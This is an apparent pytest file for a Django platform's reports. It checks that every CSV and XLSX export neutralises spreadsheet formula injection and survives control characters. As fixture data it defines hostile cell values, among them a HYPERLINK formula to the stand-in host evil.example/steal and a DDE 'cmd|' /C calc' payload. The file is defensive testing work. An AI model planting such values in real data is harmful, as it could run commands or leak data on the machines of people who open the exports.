"""Every spreadsheet export is formula-safe (issue 13, finding 5).

A participant whose position, name or LAO, or whose sandbox note, is
``=HYPERLINK("http://evil.example/…","x")`` must not put a live formula in anyone's
Excel: each export URL is fetched as CSV and as XLSX and every cell is checked, while
numbers stay numbers.
"""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.models import Organisation, User
from assessments.models import Question, Quiz, QuizKind
from certificates.models import Certificate
from core.downloads import FORMULA_STARTS, safe_cell
from courses.models import Round
from sar.services import add_ghg_activity, create_workspace, save_section
from tests.factories import UserFactory
from tests.reports.conftest import build_world

HOSTILE = '=HYPERLINK("http://evil.example/steal","คลิก")'
# Tables of counts by province or LAO type: nothing a person typed appears in them.
NO_PEOPLE_TEXT = ("/reports/export/rounds_by", "/reports/coverage/export/coverage")
HOSTILE_VALUES = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def is_live(value) -> bool:
    """A text cell a spreadsheet would run as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and safe_cell(value) != value


def cells(response) -> list:
    if response["Content-Type"].startswith("text/csv"):
        assert response.content.startswith("\ufeff".encode())  # Excel reads Thai
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                found.append(cell.value)
    return found


@pytest.fixture
def hostile_world(db):
    world = build_world()
    User.objects.filter(pk=world.participant.pk).update(
        position=HOSTILE, first_name=HOSTILE_VALUES[1], last_name=HOSTILE_VALUES[3]
    )
    Organisation.objects.filter(pk=world.chiang_mai[0].pk).update(name_th=HOSTILE_VALUES[2])
    # Nobody of this LAO is trained: it is on the list of LAOs still missing.
    Organisation.objects.filter(pk=world.chiang_mai[2].pk).update(name_th=HOSTILE)
    Round.objects.filter(pk=world.round_1.pk).update(title=HOSTILE)
    # A certificate keeps the names as they were at issue.
    Certificate.objects.filter(user=world.participant).update(organisation_name=HOSTILE)
    Question.objects.filter(quiz__round=world.round_1).update(text=HOSTILE_VALUES[4])
    world.participant.refresh_from_db()
    workspace = create_workspace(owner=world.participant, year_be=2569)
    save_section(
        workspace=workspace,
        section="LIV",
        values={"all_streetlights": "2000"},
        notes={"all_streetlights": HOSTILE},
        user=world.participant,
    )
    add_ghg_activity(
        workspace=workspace,
        ef_code="lpg_mobile",
        quantity="120",
        note=HOSTILE_VALUES[5],
        user=world.participant,
    )
    world.workspace = workspace
    world.superuser = UserFactory(
        role="dla_admin", is_staff=True, is_superuser=True, organisation=None
    )
    return world


def export_urls(world) -> list[tuple[str, str]]:
    """(url, who fetches it) for every export, as CSV and as XLSX where both exist."""
    pre = Quiz.objects.get(round=world.round_1, kind=QuizKind.PRE_TEST)
    urls = []
    for fmt in ("csv", "xlsx"):
        urls += [
            (f"/manage/rounds/{world.round_1.pk}/enrolments/?export={fmt}", "superuser"),
            (f"/live/{world.round_1.pk}/console/export.{fmt}", "superuser"),
            *[
                (f"/reports/export/{table}.{fmt}", "superuser")
                for table in ("rounds", "rounds_by_province", "rounds_by_lao_type")
            ],
            *[
                (f"/reports/coverage/export/{table}.{fmt}", "superuser")
                for table in ("coverage", "coverage_by_lao_type")
            ],
            (f"/reports/coverage/missing/export/missing.{fmt}", "superuser"),
            (f"/admin/organisations/export/{fmt}/", "superuser"),
            (f"/admin/tests/{pre.pk}/export/{fmt}/", "superuser"),
            (f"/admin/tests/{pre.pk}/report/items/{fmt}/", "superuser"),
            (f"/admin/tests/{pre.pk}/report/participants/{fmt}/", "superuser"),
            (f"/admin/certificates_issued/?export={fmt}", "superuser"),
        ]
    urls += [
        (f"/sandbox/{world.workspace.pk}/export.xlsx", "participant"),
        ("/me/privacy/my-data.xlsx", "participant"),
    ]
    return urls


def test_no_export_holds_a_live_formula_and_numbers_stay_numbers(client, hostile_world):
    world = hostile_world
    neutralised = {safe_cell(value) for value in HOSTILE_VALUES}
    assert all(value.startswith("'") for value in neutralised)
    numeric_xlsx = set()
    for url, who in export_urls(world):
        client.force_login(getattr(world, who))
        response = client.get(url)
        assert response.status_code == 200, url
        assert {"private", "no-store"} <= set(response["Cache-Control"].split(", ")), url
        assert response["Content-Disposition"].startswith("attachment;"), url
        values = cells(response)
        assert values, url
        live = [value for value in values if is_live(value)]
        assert live == [], f"{url}: {live}"
        if url.endswith("xlsx") or "xlsx" in url:
            if any(isinstance(v, int | float) and not isinstance(v, bool) for v in values):
                numeric_xlsx.add(url.split("?")[0])
        if not url.startswith(NO_PEOPLE_TEXT):
            assert neutralised & {str(value) for value in values}, f"{url}: no hostile value"
    # Counts, scores and quantities are still numbers in the workbooks.
    assert {
        "/reports/export/rounds.xlsx",
        "/reports/coverage/export/coverage.xlsx",
        f"/sandbox/{world.workspace.pk}/export.xlsx",
    } <= numeric_xlsx


def test_every_xlsx_export_survives_control_characters_in_what_people_typed(client, hostile_world):
    """XLSX cannot hold control characters; openpyxl refused the whole file (a 500)."""
    world = hostile_world
    typed = "ฝ่าย\x0bสิ่งแวดล้อม\x1b"
    User.objects.filter(pk=world.participant.pk).update(position=typed, first_name=typed)
    Round.objects.filter(pk=world.round_1.pk).update(title=typed)
    world.workspace.entries.update(note=typed)
    world.workspace.activities.update(note=typed)
    for url, who in export_urls(world):
        if "xlsx" not in url:
            continue
        client.force_login(getattr(world, who))
        response = client.get(url)
        assert response.status_code == 200, url
        values = {str(value) for value in cells(response)}
        assert not any("\x0b" in value or "\x1b" in value for value in values), url
